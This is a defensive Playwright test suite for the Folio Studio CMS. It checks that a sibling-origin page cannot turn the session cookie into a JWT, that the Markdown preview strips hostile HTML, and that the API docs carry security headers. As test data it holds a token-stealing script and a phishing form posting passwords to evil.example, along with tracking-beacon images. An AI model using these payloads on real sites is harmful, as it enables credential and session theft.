import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { TestServer } from './helpers/project.js';
import { CHROMIUM, studioSession } from './helpers/studio.js';

/** A page served by another origin of the same site (another port of the same host), as another dev server. */
function siblingSite(html: string): Promise<Server> {
  const server = createServer((_req, res) => {
    res.setHeader('content-type', 'text/html; charset=utf-8');
    res.end(html);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

/**
 * Folio Studio against a hostile page and hostile content (issue 31, findings 2 and 4), in Chromium: a page of
 * another origin of the same site cannot turn the editor's session cookie into a JWT, and the Markdown preview
 * shows no form that posts elsewhere and loads nothing from another site.
 */
describe.skipIf(!CHROMIUM)('Folio Studio against hostile pages and content', () => {
  let s: TestServer;
  let page: Page;
  let sibling: Server;
  const session = studioSession();
  beforeAll(async () => {
    ({ s, page } = session);
    const target = s.url;
    sibling = await siblingSite(`<!doctype html><title>Another dev server</title><script>
      window.stolen = fetch(${JSON.stringify(`${target}/api/auth/refresh`)}, { method: 'POST', credentials: 'include' })
        .then((r) => r.text())
        .catch((e) => 'refused: ' + e.message);
    </script>`);
  });
  afterAll(async () => {
    await new Promise((resolve) => sibling?.close(resolve));
  });

  it('keeps the session from a page of another origin of the same site', async () => {
    const other = await page.context().newPage();
    const url = `http://127.0.0.1:${(sibling.address() as AddressInfo).port}/`;
    expect(new URL(url).hostname).toBe(new URL(s.url).hostname);
    await other.goto(url);
    const stolen = await other.evaluate(() => (window as unknown as { stolen: Promise<string> }).stolen);
    expect(stolen).not.toContain('jwt');
    expect(stolen).toMatch(/^refused: /);
    await other.close();
    // The editor's session is whole: a reload of the Studio renews it with the cookie.
    await page.goto(`${s.url}/admin`);
    await page.getByRole('navigation', { name: 'Content types' }).getByRole('link').first().waitFor();
  });

  it('previews Markdown without forms, fields, buttons or images of other sites', async () => {
    const offSite: string[] = [];
    page.on('request', (r) => {
      if (new URL(r.url()).hostname.endsWith('evil.example')) offSite.push(r.url());
    });
    await page.goto(`${s.url}/admin/content/articles/new`);
    await page.getByLabel('Component to add').selectOption('shared.rich-text');
    await page.getByRole('button', { name: 'Add to blocks' }).click();
    await page
      .locator('#field-blocks\\.0\\.body')
      .fill(
        [
          'Sign in **again**:',
          '<form action="https://evil.example/steal" method="post"><input name="user">',
          '<input type="password" name="password"><button>Sign in</button><textarea></textarea></form>',
          '![beacon](https://evil.example/beacon.png)',
          '<img src="//evil.example/b2.png" alt="b2"> <img srcset="https://evil.example/b3.png 2x" alt="b3">',
          '<p style="background:url(https://evil.example/b4.png)">styled</p>',
          '<img src="/uploads/own.png" alt="own">',
        ].join('\n'),
      );
    await page.getByRole('button', { name: 'Preview body' }).click();
    const preview = page.getByRole('region', { name: 'Preview of body' });
    await preview.locator('strong', { hasText: 'again' }).waitFor();
    for (const tag of ['form', 'input', 'button', 'textarea']) expect(await preview.locator(tag).count()).toBe(0);
    const sources = await preview.locator('img').evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src')));
    expect(sources.filter((src) => src !== null)).toEqual(['/uploads/own.png']);
    expect(await preview.locator('[style], [srcset]').count()).toBe(0);
    expect(offSite).toEqual([]);
  });

  it('serves the API documentation under its security headers, and it still works', async () => {
    const docs = await page.context().newPage();
    const refused: string[] = [];
    docs.on('console', (m) => {
      if (m.type() === 'error') refused.push(m.text());
    });
    const res = await docs.goto(`${s.url}/documentation`);
    expect(res!.headers()['content-security-policy']).toContain("script-src 'self'");
    expect(res!.headers()['x-frame-options']).toBe('SAMEORIGIN');
    await docs.getByText('/api/articles', { exact: true }).first().waitFor();
    expect(refused).toEqual([]);
    await docs.close();
  });
});
